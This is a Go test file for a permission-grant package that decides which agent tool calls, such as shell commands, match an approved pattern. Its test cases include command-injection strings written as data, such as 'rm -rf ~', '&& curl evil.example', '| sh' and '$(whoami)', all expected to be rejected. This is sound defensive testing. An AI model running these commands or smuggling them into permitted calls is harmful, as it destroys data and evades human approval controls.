package grant_test

import (
	"strings"
	"testing"
	"time"

	"github.com/useprickle/prickle/shared/grant"
)

func TestMatch(t *testing.T) {
	cases := []struct {
		pattern, value string
		want           bool
	}{
		{"git push origin *", "git push origin main", true},
		{"git push origin *", "git push origin feature/login-v2", true},
		{"git push origin *", "git push origin ", true},
		{"git push origin *", "git push origin main --force", true},
		{"git push origin main", "git push origin main", true},
		// near misses
		{"git push origin main", "git push origin main2", false},
		{"git push origin main", "git push origin mai", false},
		{"git push origin *", "git push upstream main", false},
		{"git push origin *", " git push origin main", false},
		{"git push origin *", "xgit push origin main", false},
		{"git push origin *", "Git push origin main", false},
		{"git push origin *", "git push origin main; rm -rf ~", false},
		{"git push origin *", "git push origin main && curl evil.example", false},
		{"git push origin *", "git push origin main | sh", false},
		{"git push origin *", "git push origin $(whoami)", false},
		{"git push origin *", "git push origin `whoami`", false},
		{"git push origin *", "git push origin main\nrm -rf ~", false},
		{"git push origin *", "git push origin main > /etc/passwd", false},
		{"git push origin *", "git push origin ma\\\nin", false},
		// literal metacharacters in the pattern match themselves only
		{"make test && make lint", "make test && make lint", true},
		{"make test && *", "make test && make lint", true},
		{"make test && *", "make test && make lint; reboot", false},
		// regex characters are literal
		{"rm a.txt", "rm abtxt", false},
		{"ls [ab]", "ls a", false},
		{"ls [ab]", "ls [ab]", true},
		{"echo .*", "echo .bashrc", true},
		{"echo .*", "echo anything", false},
		// several wildcards
		{"deploy * to *", "deploy web to staging", true},
		{"deploy * to *", "deploy web to staging; deploy db", false},
		{"*", "", true},
		{"", "", true},
		{"", "x", false},
	}
	for _, c := range cases {
		if got := grant.Match(c.pattern, c.value); got != c.want {
			t.Errorf("Match(%q, %q) = %v, want %v", c.pattern, c.value, got, c.want)
		}
	}
}

func TestMatchRefusesHugeValues(t *testing.T) {
	v := "git push origin " + strings.Repeat("a", grant.MaxValue)
	if grant.Match("git push origin *", v) {
		t.Fatal("a value over MaxValue must not match")
	}
}

func TestAllows(t *testing.T) {
	now := time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)
	pattern := grant.Grant{ID: "grt_1", Project: "web", Owner: "alice", Agent: "alice/builder", Scope: grant.ScopePattern,
		ToolName: "Bash", Field: "command", Pattern: "git push origin *", CreatedAt: now, ExpiresAt: now.Add(time.Hour)}
	exact := grant.Grant{ID: "grt_2", Project: "web", Owner: "alice", Agent: "alice/builder", Scope: grant.ScopeCall,
		TaskID: "t1", Fingerprint: "fp1", ToolName: "Bash", CreatedAt: now, ExpiresAt: now.Add(time.Hour)}
	call := func(mod func(*grant.Call)) grant.Call {
		c := grant.Call{Project: "web", Agent: "alice/builder", TaskID: "t1", ToolName: "Bash",
			Canonical: []byte(`{"command":"git push origin main","description":"push"}`), Fingerprint: "fp1"}
		if mod != nil {
			mod(&c)
		}
		return c
	}
	revoked := pattern
	at := now
	revoked.RevokedAt = &at
	cases := []struct {
		name string
		g    grant.Grant
		c    grant.Call
		at   time.Time
		want bool
	}{
		{"pattern matches", pattern, call(nil), now, true},
		{"pattern on another task of the project", pattern, call(func(c *grant.Call) { c.TaskID = "t9" }), now, true},
		{"pattern, other agent", pattern, call(func(c *grant.Call) { c.Agent = "alice/writer" }), now, false},
		{"pattern, other project", pattern, call(func(c *grant.Call) { c.Project = "mobile" }), now, false},
		{"pattern, other tool", pattern, call(func(c *grant.Call) { c.ToolName = "Write" }), now, false},
		{"pattern, field missing", pattern, call(func(c *grant.Call) { c.Canonical = []byte(`{"cmd":"git push origin main"}`) }), now, false},
		{"pattern, field not a string", pattern, call(func(c *grant.Call) { c.Canonical = []byte(`{"command":["git push origin main"]}`) }), now, false},
		{"pattern, near miss", pattern, call(func(c *grant.Call) { c.Canonical = []byte(`{"command":"git push origin main;id"}`) }), now, false},
		{"pattern expired", pattern, call(nil), now.Add(time.Hour), false},
		{"pattern revoked", revoked, call(nil), now, false},
		{"exact call", exact, call(nil), now, true},
		{"exact call, other input", exact, call(func(c *grant.Call) { c.Fingerprint = "fp2" }), now, false},
		{"exact call, other task", exact, call(func(c *grant.Call) { c.TaskID = "t2" }), now, false},
		{"exact call, no fingerprint", grant.Grant{Project: "web", Agent: "alice/builder", Scope: grant.ScopeCall, TaskID: "t1", ToolName: "Bash", ExpiresAt: now.Add(time.Hour)},
			call(func(c *grant.Call) { c.Fingerprint = "" }), now, false},
	}
	for _, c := range cases {
		if got := c.g.Allows(c.c, c.at); got != c.want {
			t.Errorf("%s: Allows = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestCheckPattern(t *testing.T) {
	cases := []struct {
		field, pattern string
		ok             bool
	}{
		{"command", "git push origin *", true},
		{"command", "*", false},
		{"command", " * * ", false},
		{"command", "", false},
		{"", "git push", false},
		{"command", "git push\nrm", false},
		{"command", strings.Repeat("a", grant.MaxPattern+1), false},
	}
	for _, c := range cases {
		if err := grant.CheckPattern(c.field, c.pattern); (err == nil) != c.ok {
			t.Errorf("CheckPattern(%q, %q) = %v, want ok=%v", c.field, c.pattern, err, c.ok)
		}
	}
	for hours, ok := range map[int]bool{0: false, 1: true, 72: true, 73: false, -1: false} {
		if err := grant.CheckHours(hours); (err == nil) != ok {
			t.Errorf("CheckHours(%d) = %v, want ok=%v", hours, err, ok)
		}
	}
}

func TestDefaultField(t *testing.T) {
	cases := []struct{ in, field, value string }{
		{`{"command":"git push origin main","description":"push"}`, "command", "git push origin main"},
		{`{"content":"x","file_path":"/tmp/a"}`, "content", "x"},
		{`{"n":1,"url":"https://example.com"}`, "url", "https://example.com"},
		{`{"n":1}`, "", ""},
		{`[]`, "", ""},
	}
	for _, c := range cases {
		f, v := grant.DefaultField([]byte(c.in))
		if f != c.field || v != c.value {
			t.Errorf("DefaultField(%s) = %q, %q; want %q, %q", c.in, f, v, c.field, c.value)
		}
	}
}
